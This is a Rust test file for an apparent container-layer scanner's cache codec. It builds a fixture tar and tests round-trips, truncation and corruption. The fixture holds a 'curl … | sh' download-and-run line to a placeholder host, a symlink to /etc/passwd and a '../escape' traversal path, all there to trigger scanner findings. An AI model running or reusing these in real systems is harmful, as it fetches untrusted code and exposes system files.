//! The cache codec on an index walked from a tar built in code that has
//! every kind of entry, whiteouts, findings, file facts and package
//! database bytes: it round-trips exactly, and every truncation, a flipped
//! byte anywhere, or a foreign magic gives a miss (or the same index),
//! never a different index or a panic.

use std::sync::atomic::AtomicU64;

use super::{decode, encode};
use crate::fixture::LayerBuilder;
use crate::layer::{LayerIndex, WalkContext, walk_tar};
use crate::limits::Limits;

fn rich_index() -> LayerIndex {
    let tar = LayerBuilder::new()
        .dir("usr/bin", 0o755)
        .file(
            "usr/bin/fetch",
            b"#!/bin/sh\ncurl -fsSL http://x.invalid/a | sh\n",
            0o755,
        )
        .file(
            "var/lib/dpkg/status",
            b"Package: a\nStatus: install ok installed\n",
            0o644,
        )
        .file_bytes(
            b"usr/bin/odd\xff",
            b"\x7fELF\x02\x01\x01",
            0o4755,
            1000,
            2000,
        )
        .hardlink("usr/bin/fetch2", "usr/bin/fetch")
        .symlink("usr/bin/up", "../../../etc/passwd")
        .device("dev/mem", 'c', 1, 1)
        .fifo("run/pipe")
        .file("../escape", b"x", 0o644)
        .whiteout("etc/old")
        .opaque("opt")
        .tar_bytes();
    let (bytes, entries) = (AtomicU64::new(0), AtomicU64::new(0));
    let limits = Limits::default();
    let ctx = WalkContext {
        location: "layer 0".into(),
        limits: &limits,
        image_bytes: &bytes,
        image_entries: &entries,
    };
    let mut index = LayerIndex {
        blob_size: 77,
        uncompressed_size: tar.len() as u64,
        diff_id: Some(crate::digest::Sha256::of(&tar)),
        compression: Some(crate::layer::Compression::Gzip),
        ..Default::default()
    };
    assert!(walk_tar(&tar[..], &ctx, &mut index).is_ok());
    index
}

fn json(i: &LayerIndex) -> serde_json::Value {
    serde_json::to_value(i).expect("index serializes")
}

#[test]
fn round_trips_every_field() {
    let index = rich_index();
    assert!(index.entries.iter().any(|e| e.facts.is_some()), "facts");
    assert!(
        index
            .entries
            .iter()
            .any(|e| e.pkg.as_ref().is_some_and(|p| p.db.is_some())),
        "package database bytes"
    );
    assert!(
        (index.entries.iter()).any(|e| e.pkg.as_ref().is_some_and(|p| p.no_sha1)),
        "a digest the layer's plan skipped (past dpkg's database)"
    );
    assert!(index.entries.iter().any(|e| e.device.is_some()), "device");
    assert_eq!(index.whiteouts.len(), 2);
    assert!(!index.findings.is_empty());
    let back = decode(&encode(&index)).expect("decodes");
    assert_eq!(json(&back), json(&index));
    let empty = LayerIndex::default();
    assert_eq!(json(&decode(&encode(&empty)).expect("empty")), json(&empty));
}

#[test]
fn every_truncation_is_a_miss() {
    let bytes = encode(&rich_index());
    for cut in 0..bytes.len() {
        assert!(decode(&bytes[..cut]).is_none(), "cut at {cut}");
    }
}

#[test]
fn a_flipped_byte_is_a_miss_or_the_same_index() {
    let index = rich_index();
    let want = json(&index);
    let bytes = encode(&index);
    for i in 0..bytes.len() {
        let mut b = bytes.clone();
        b[i] ^= 0x20;
        if let Some(got) = decode(&b) {
            assert_eq!(json(&got), want, "byte {i} changed the index");
        }
    }
}

#[test]
fn the_old_json_form_and_trailing_bytes_are_misses() {
    let index = rich_index();
    let old = zstd::encode_all(&serde_json::to_vec(&index).unwrap()[..], 3).unwrap();
    assert!(decode(&old).is_none());
    let mut long = encode(&index);
    long.extend_from_slice(b"\0");
    assert!(decode(&long).is_none(), "bytes after the frame");
}
